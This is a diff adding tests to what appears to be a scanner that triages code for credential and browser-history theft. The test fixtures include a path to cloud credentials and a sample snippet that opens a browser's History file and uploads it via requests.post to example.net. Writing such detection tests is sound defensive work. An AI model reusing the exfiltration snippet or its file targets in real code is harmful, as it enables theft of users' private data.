@@ -102,3 +102,23 @@ def test_triage_gates_on_every_anchor_of_the_sink_patterns() -> None:
     gated = {token for tokens, _ in triage._TRIAGE for token in tokens}
     assert anchors <= gated
     assert all(anchor == anchor.lower() for anchor in anchors)
+
+
+def test_only_the_indicators_whose_anchors_occur_are_searched() -> None:
+    found = triage._CREDENTIALS.candidates(b"p = '~/.aws/credentials'; q = 'local state'")
+    names = {n for n, (_, i) in indicators.CREDENTIALS.items() if i in found}
+    assert "ssh or cloud key" in names
+    assert "shell history or secrets file" not in names
+    assert triage._CREDENTIALS.candidates(b"x = 1\n") == []
+
+
+def test_a_browser_history_given_in_pieces_still_reaches_the_store_search() -> None:
+    # The anchor `\x00history` exists only once the pieces are joined; the pass over the
+    # bytes asks for `history`, which they hold.
+    data = (
+        b"import os, requests\n"
+        b"p = os.path.join(base, 'Default', 'History')\n"
+        b"requests.post('https://example.net/u', files={'f': open(p, 'rb')})\n"
+    )
+    assert triage.worth_parsing(data)
+    assert not triage.worth_parsing(data.replace(b"'History'", b"'Histories'"))
